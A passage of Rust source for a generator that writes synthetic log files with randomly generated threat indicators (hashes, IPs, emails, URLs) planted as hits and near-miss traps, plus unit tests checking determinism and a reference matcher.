                let h = set.hashes[i].clone();
                let (kind, slot) = match h.len() {
                    32 => (Kind::Md5, MD5),
                    40 => (Kind::Sha1, SHA1),
                    _ => (Kind::Sha256, SHA256),
                };
                let before = self.rng.gen_range(0..5);
                let after = self.rng.gen_range(if before == 0 { 1 } else { 0 }..5);
                let mut t = String::new();
                push_hex(&mut self.rng, &mut t, before);
                t.push_str(&h);
                push_hex(&mut self.rng, &mut t, after);
                if idx.hashes.contains(&fp(&t)) {
                    continue;
                }
                return Some((kind, h, t, slot));
            } else if r < 85 && !set.emails.is_empty() {
                let e = self.rand_of(&set.emails);
                let t = if self.rng.gen_ratio(1, 2) {
                    format!("{}{e}", self.one(&["x", "no", "e", "a.", "1"]))
                } else {
                    format!("{e}.{}", self.one(&["au", "br", "cn", "uk"]))
                };
                let dom = t.split_once('@').unwrap().1;
                if idx.emails.contains(&fp(&t)) || idx.domain_near(dom) {
                    continue;
                }
                return Some((Kind::Email, e, t, EMAIL));
            } else if r >= 85 && !set.urls.is_empty() {
                let u = self.rand_of(&set.urls);
                if u.contains('?') || u.ends_with('/') {
                    continue;
                }
                let mut t = u.clone();
                t.push_str(self.one(&["5", "x", "s", "1", "_old", "-bak", "~"]));
                if idx.urls.contains(&fp(&t)) {
                    continue;
                }
                return Some((Kind::Url, u, t, URL));
            }
        }
        None
    }

    /// Renders a line in which `text` takes the place of one token of `slot` (the first,
    /// second or third such token, at random); returns the format used and the token as
    /// written.
    fn render_planted(&mut self, slot: Slot, text: String) -> (usize, String) {
        let skip = self.rng.gen_range(0..3);
        self.ov = Some(Ov {
            slot,
            skip,
            text,
            used: None,
        });
        let f = self.render_override(slot);
        let o = self.ov.take().expect("render_override keeps the override");
        let used = o
            .used
            .expect("render_override returns once the override is used");
        (f, String::from_utf8_lossy(&self.buf[used]).into_owned())
    }

    /// Renders a line carrying the pending override; returns the format used.
    fn render_override(&mut self, slot: Slot) -> usize {
        for _ in 0..200 {
            let f = self.pick_format(Some(slot));
            self.render(f);
            if self.ov.as_ref().is_some_and(|o| o.used.is_some()) {
                return f;
            }
            let o = self.ov.as_mut().unwrap();
            o.skip = 0;
            o.used = None;
        }
        unreachable!("no format carries slot {slot}");
    }
}

struct VecWriter<'a>(&'a mut Vec<u8>);

impl std::fmt::Write for VecWriter<'_> {
    fn write_str(&mut self, s: &str) -> std::fmt::Result {
        self.0.extend_from_slice(s.as_bytes());
        Ok(())
    }
}

/// Writes the log corpus of `spec` for `set` (which must be `indicators(spec)` or any set
/// drawn by [`indicators`]) and returns what was planted where.
pub fn write_corpus<W: Write>(
    spec: &CorpusSpec,
    set: &IndicatorSet,
    mut w: W,
) -> io::Result<Truth> {
    let mut g = Gen::new(spec, set);
    let mut out: Vec<u8> = Vec::with_capacity(1 << 22);
    let mut truth = Truth {
        formats: FORMATS.iter().map(|f| (f.0, 0)).collect(),
        ..Truth::default()
    };
    let can_plant = !g.plant_kinds.is_empty();
    while truth.bytes < spec.target_bytes {
        let line = truth.lines + 1;
        let roll = g.rng.gen_range(0..1_000_000u32);
        let f = if roll < HIT_PPM && can_plant {
            let (kind, indicator, text, slot) = g.plant_value();
            let (f, token) = g.render_planted(slot, text);
            truth.hits.push(TrueHit {
                line,
                kind,
                indicator,
                token,
                format: FORMATS[f].0,
            });
            f
        } else if let Some((kind, indicator, text, slot)) =
            if (HIT_PPM..HIT_PPM + TRAP_PPM).contains(&roll) && can_plant {
                g.trap_value()
            } else {
                None
            }
        {
            let (f, token) = g.render_planted(slot, text);
            truth.traps.push(Trap {
                line,
                kind,
                indicator,
                token,
                format: FORMATS[f].0,
            });
            f
        } else {
            let f = g.pick_format(None);
            g.render(f);
            f
        };
        g.buf.push(b'\n');
        truth.formats[f].1 += 1;
        truth.lines = line;
        truth.bytes += g.buf.len() as u64;
        out.extend_from_slice(&g.buf);
        if out.len() >= 1 << 22 {
            w.write_all(&out)?;
            out.clear();
        }
    }
    w.write_all(&out)?;
    w.flush()?;
    Ok(truth)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spec(seed: u64) -> CorpusSpec {
        CorpusSpec {
            seed,
            indicators: 5_000,
            target_bytes: 3 << 20,
        }
    }

    fn generate(seed: u64) -> (IndicatorSet, Vec<u8>, Truth) {
        let s = spec(seed);
        let set = indicators(&s);
        let mut buf = Vec::new();
        let truth = write_corpus(&s, &set, &mut buf).unwrap();
        (set, buf, truth)
    }

    #[test]
    fn same_seed_same_bytes() {
        let (a_set, a, a_truth) = generate(7);
        let (b_set, b, b_truth) = generate(7);
        assert_eq!(a_set.plain_list(), b_set.plain_list());
        assert_eq!(a, b);
        assert_eq!(a_truth.hits, b_truth.hits);
        assert_eq!(a_truth.traps, b_truth.traps);
        let (c_set, c, _) = generate(8);
        assert_ne!(a_set.plain_list(), c_set.plain_list());
        assert_ne!(a, c);
    }

    #[test]
    fn set_has_the_mix() {
        let set = indicators(&spec(1));
        assert_eq!(set.len(), 5_000);
        for k in Kind::ALL {
            assert!(set.count(k) > 0, "no {k:?}");
        }
        assert!(set.ipv4.len() * 100 / set.len() >= 45);
        let lines: Vec<&str> = set
            .plain_list()
            .lines()
            .filter(|l| !l.is_empty() && !l.starts_with('#'))
            .collect();
        assert_eq!(lines.len(), 5_000);
        assert!(set.messy_lines() > 30 && set.messy_lines() < 250);
        assert!(lines.iter().any(|l| l.contains("[.]")));
        assert!(lines.iter().any(|l| l.contains(" # ")));
        assert!(lines.iter().any(|l| l.starts_with("domain-exact:")));
        assert!(lines.iter().any(|l| l.starts_with("url-prefix:")));
        assert!(lines.iter().any(|l| l.starts_with("istring:")));
        for ip in &set.ipv4 {
            assert!(!ip.is_private() && !ip.is_loopback());
        }
        assert!(set.literals().lines().count() == 5_000 - set.cidr4.len() - set.cidr6.len());
        assert!(!set.cidr_list().contains(':'));
    }

    #[test]
    fn truth_is_recorded_and_written() {
        let (_, buf, truth) = generate(3);
        let text = std::str::from_utf8(&buf).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len() as u64, truth.lines);
        assert_eq!(buf.len() as u64, truth.bytes);
        let n = truth.lines as usize;
        // ~0.5% each
        assert!(
            truth.hits.len() > n / 400 && truth.hits.len() < n / 100,
            "{}",
            truth.hits.len()
        );
        assert!(truth.traps.len() > n / 400 && truth.traps.len() < n / 100);
        for h in &truth.hits {
            assert!(lines[h.line as usize - 1].contains(&h.token), "{h:?}");
        }
        for t in &truth.traps {
            assert!(lines[t.line as usize - 1].contains(&t.token), "{t:?}");
            assert!(
                t.token.to_ascii_lowercase().contains(&t.indicator),
                "trap must contain its indicator: {t:?}"
            );
        }
        let kinds: std::collections::BTreeSet<Kind> = truth.hits.iter().map(|h| h.kind).collect();
        assert!(kinds.len() >= 10, "{kinds:?}");
        let mut hit_lines: Vec<u64> = truth.hits.iter().map(|h| h.line).collect();
        hit_lines.extend(truth.traps.iter().map(|t| t.line));
        let len = hit_lines.len();
        hit_lines.sort_unstable();
        hit_lines.dedup();
        assert_eq!(hit_lines.len(), len, "one planted token per line");
    }

    #[test]
    fn every_format_is_there_and_lines_are_realistic() {
        let (_, buf, truth) = generate(5);
        for (name, count) in &truth.formats {
            assert!(*count > truth.lines / 40, "{name}: {count}");
        }
        let avg = truth.bytes / truth.lines;
        assert!((230..=320).contains(&avg), "average line {avg} bytes");
        assert!(!buf.contains(&b'\r'));
        assert!(std::str::from_utf8(&buf).is_ok());
    }

    /// A slow reference matcher for the contract, good enough for generated lines: does
    /// `line` contain a token that matches an indicator of `set`?
    fn reference_hits(set: &IndicatorSet, line: &str) -> Vec<String> {
        let idx = &set.idx;
        let mut hits = Vec::new();
        let split = |keep: fn(char) -> bool| {
            line.split(move |c: char| !keep(c))
                .filter(|t| !t.is_empty())
        };
        for tok in split(|c| c.is_ascii_digit() || c == '.') {
            if strict_v4(tok).is_some_and(|ip| idx.v4_hit(ip)) {
                hits.push(format!("ipv4 {tok}"));
            }
        }
        for tok in split(|c| c.is_ascii_hexdigit() || c == ':' || c == '.') {
            if tok.contains(':')
                && let Ok(ip) = tok.parse::<Ipv6Addr>()
                && idx.v6_hit(ip.into())
            {
                hits.push(format!("ipv6 {tok}"));
            }
        }
        for tok in split(|c| c.is_ascii_hexdigit()) {
            if matches!(tok.len(), 32 | 40 | 64)
                && idx.hashes.contains(&fp(&tok.to_ascii_lowercase()))
            {
                hits.push(format!("hash {tok}"));
            }
        }
        for tok in split(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-' || c == '_') {
            let d = tok.trim_end_matches('.').to_ascii_lowercase();
            if d.contains('.') && idx.domain_hit(&d) {
                hits.push(format!("domain {tok}"));
            }
        }
        for tok in split(|c| c.is_ascii_alphanumeric() || ".-_+@".contains(c)) {
            if let Some((l, d)) = tok.split_once('@') {
                let e = format!("{l}@{}", d.to_ascii_lowercase());
                if idx.emails.contains(&fp(&e)) {
                    hits.push(format!("email {tok}"));
                }
            }
        }
        let lower = line.to_ascii_lowercase();
        for (i, _) in lower.match_indices("://") {
            let start = lower[..i]
                .rfind(|c: char| !c.is_ascii_alphabetic())
                .map_or(0, |j| j + 1);
            let end = line[i..]
                .find(|c: char| c.is_whitespace() || "\"'<>".contains(c))
                .map_or(line.len(), |j| i + j);
            let raw = &line[start..end];
            let (scheme, rest) = raw.split_once("://").unwrap();
            let scheme = scheme.to_ascii_lowercase();
            let cut = rest.find('/').unwrap_or(rest.len());
            let mut host = rest[..cut].to_ascii_lowercase();
            for dflt in [":80", ":443"] {
                if host.ends_with(dflt) && (dflt == ":80") == (scheme == "http") {
                    host.truncate(host.len() - dflt.len());
                }
            }
            let mut path = String::new();
            let p = &rest[cut..];
            let mut k = 0;
            while k < p.len() {
                if p.as_bytes()[k] == b'%'
                    && k + 3 <= p.len()
                    && let Ok(v) = u8::from_str_radix(&p[k + 1..k + 3], 16)
                    && (v.is_ascii_alphanumeric() || b"-._~".contains(&v))
                {
                    path.push(v as char);
                    k += 3;
                    continue;
                }
                path.push(p.as_bytes()[k] as char);
                k += 1;
            }
            let url = format!("{scheme}://{host}{path}");
            if idx.urls.contains(&fp(&url)) && set.urls.contains(&url) {
                hits.push(format!("url {raw}"));
            }
            if set.url_prefixes.iter().any(|u| url.starts_with(u.as_str())) {
                hits.push(format!("url-prefix {raw}"));
            }
        }
        for s in &set.strings {
            if line.contains(s.as_str()) {
                hits.push(format!("string {s}"));
            }
        }
        for s in &set.istrings {
            if lower.contains(&s.to_ascii_lowercase()) {
                hits.push(format!("istring {s}"));
            }
        }
        hits
    }

    #[test]
    fn only_planted_lines_match() {
        for seed in [9, 10] {
            let (set, buf, truth) = generate(seed);
            let text = std::str::from_utf8(&buf).unwrap();
            let planted: std::collections::HashMap<u64, &TrueHit> =
                truth.hits.iter().map(|h| (h.line, h)).collect();
            for (i, line) in text.lines().enumerate() {
                let line_no = i as u64 + 1;
                let hits = reference_hits(&set, line);
                match planted.get(&line_no) {
                    Some(h) => assert!(
                        !hits.is_empty(),
                        "planted line {line_no} does not match: {h:?}\n{line}"
                    ),
                    None => assert!(hits.is_empty(), "line {line_no} matches {hits:?}:\n{line}"),
                }
            }
        }
    }

    #[test]
    fn ipv6_variants_parse_to_the_same_address() {
        let mut rng = ChaCha8Rng::seed_from_u64(1);
        for _ in 0..2000 {
            let ip = ioc_v6(&mut rng);
            let v = ipv6_variant(&mut rng, ip);
            assert_eq!(v.parse::<Ipv6Addr>().map(u128::from), Ok(ip), "{v}");
        }
    }
}
